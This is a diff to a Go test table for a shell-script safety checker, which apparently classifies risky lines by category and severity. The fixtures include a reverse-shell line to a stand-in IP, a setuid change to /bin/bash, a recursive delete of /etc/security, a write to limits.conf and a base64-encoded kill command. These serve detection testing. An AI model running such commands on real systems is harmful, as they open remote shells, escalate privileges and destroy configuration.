@@ -45,7 +45,8 @@ func TestWeakSignsCountByTheLengthOfTheProgram(t *testing.T) {
 		{"one in a large change", script(300, kill), gate.OnlyLines(gate.LineRange{100, 150}, gate.LineRange{160, 170}), "process/shell-kill", gate.SeverityNote},
 		{"beside what is dangerous", script(50, kill, "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"), gate.LineSet{}, "reverse-shell/shell-device", gate.SeverityDangerous},
 		{"one that more is known about", script(300, "chmod u+s /bin/bash"), gate.LineSet{}, "privilege/shell-permissions", gate.SeverityDangerous},
-		{"one whose path stands in a variable", "dir=/etc/cron.d\nfind \"$dir\" -name '*.old' -delete\n", gate.LineSet{}, "deletion/shell-system-file", gate.SeverityNote},
+		{"one whose path stands in a variable", "conf=/etc/security/limits.conf\necho 'max 10' > \"$conf\"\n", gate.LineSet{}, "file-write/shell-system-file", gate.SeverityNote},
+		{"one that can't be undone", script(300, "rm -rf /etc/security"), gate.LineSet{}, "deletion/shell-system-file", gate.SeveritySuspicious},
 		{"one that is encoded", script(300, "echo a2lsbGFsbCAtOSB3b3JrZXIgc2VydmVyIGNsaWVudCBzY2hlZHVsZXIK > x"), gate.LineSet{}, "process/shell-kill", gate.SeveritySuspicious},
 	} {
 		t.Run(c.name, func(t *testing.T) {
